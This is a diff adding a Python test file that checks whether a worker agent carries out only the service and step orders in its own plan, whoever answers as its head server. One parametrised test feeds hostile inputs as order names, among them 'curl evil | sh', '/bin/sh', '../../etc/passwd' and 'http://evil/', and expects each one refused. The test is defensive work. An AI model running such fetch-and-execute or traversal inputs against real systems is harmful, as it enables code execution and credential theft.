@@ -1,0 +1,126 @@
+"""Orders over the real port: a worker does what its own plan has, whoever answers as its head."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+from typing import TYPE_CHECKING
+
+import anyio
+import pytest
+
+from agent.control.client import HeadLink
+from agent.control.protocol import Hello, Reply, Report
+from agent.control.reports import Expected, Reports
+from agent.control.server import Site
+from agent.control.sockets import bind
+from agent.decisions import worker
+from agent.decisions.shared import OrderKind, Said
+from agent.decisions.worker import state as w
+from unit.heads import RETRIEVER
+from unit.workers import goal
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator
+
+SECONDS = 20.0
+HELLO = Hello("pod1", 1)
+FIRST = Reply(1, "run-1", "booting", ray_ready=False, gcs_port=6379, news=0)
+
+
+def free_port() -> int:
+    """Return a port that is free now."""
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+class OneWorker:
+    """A worker's decisions behind a real link to a head's port; its deeds are kept, not done."""
+
+    def __init__(self, port: int) -> None:
+        self.state = worker.start(goal(prepare=True))
+        self.deeds: list[w.WorkerAction] = []
+        self.changed = anyio.Event()
+        self.link = HeadLink(
+            *("127.0.0.1", port, port, None),
+            lambda: HELLO,
+            self._report,
+            self._take,
+            lambda _reply: None,
+        )
+
+    def _take(self, event: w.WorkerEvent) -> None:
+        before = self.state
+        self.state, actions = worker.decide(self.state, event, 1.0)
+        self.deeds += actions
+        if self.state.obeyed != before.obeyed:
+            self.link.report_now()
+        self.changed.set()
+        self.changed = anyio.Event()
+
+    def _report(self, ip: str) -> Report:
+        obeyed = self.state.obeyed
+        number, by = (0, "") if obeyed is None else (obeyed.number, obeyed.by)
+        return Report("agent1", ip, self.state.phase.value, obeyed=number, obeyed_by=by)
+
+    async def until_obeyed(self, number: int) -> None:
+        """Wait until an order of this number was taken in."""
+        with anyio.fail_after(SECONDS):
+            while self.state.obeyed is None or self.state.obeyed.number < number:
+                await self.changed.wait()
+
+
+@contextlib.asynccontextmanager
+async def head_at(port: int) -> AsyncIterator[Reports]:
+    """Serve a head's port."""
+    reports = Reports(FIRST, Expected(None, "", ""), lambda _event: None, lambda: 0.0)
+    site = Site(token=None, ready=lambda: True, status=dict, reports=reports)
+    runner = await site.open(bind(["127.0.0.1"], port))
+    try:
+        yield reports
+    finally:
+        await runner.cleanup()
+
+
+async def story(port: int, orders: list[tuple[OrderKind, str]]) -> OneWorker:
+    """Give a worker orders, one after another, and see each taken in."""
+    one = OneWorker(port)
+    async with head_at(port) as reports, anyio.create_task_group() as tasks:
+        tasks.start_soon(one.link.run)
+        with anyio.fail_after(SECONDS):
+            while not one.state.heard:
+                await one.changed.wait()
+        for number, (kind, name) in enumerate(orders, 1):
+            reports.order("agent1", kind, name)
+            await one.until_obeyed(number)
+        tasks.cancel_scope.cancel()
+    return one
+
+
+def test_orders_arrive_at_once_and_are_carried_out_once() -> None:
+    """A held report brings an order in that moment; it is not repeated by the next reply."""
+    orders = [
+        (OrderKind.START_SERVICE, RETRIEVER),
+        (OrderKind.RUN_STEP, "AGENT_PREPARE_EACH"),
+        (OrderKind.SEND_LOG, "ray"),
+    ]
+    one = anyio.run(story, free_port(), orders)
+    assert [deed for deed in one.deeds if not isinstance(deed, Said)] == [
+        w.StartService(RETRIEVER, 1),
+        w.RunStep("AGENT_PREPARE_EACH"),
+        w.SendLog("ray"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", RETRIEVER.upper()],
+)
+def test_whoever_answers_as_the_head_can_run_nothing_else(name: str) -> None:
+    """A worker runs nothing that its own plan lacks, whatever it is told."""
+    orders = [(OrderKind.START_SERVICE, name), (OrderKind.RUN_STEP, name)]
+    one = anyio.run(story, free_port(), orders)
+    assert {type(deed) for deed in one.deeds} == {Said}
+    said = " ".join(deed.sentence for deed in one.deeds if isinstance(deed, Said))
+    assert said.count("an order of the head's is refused") == 2
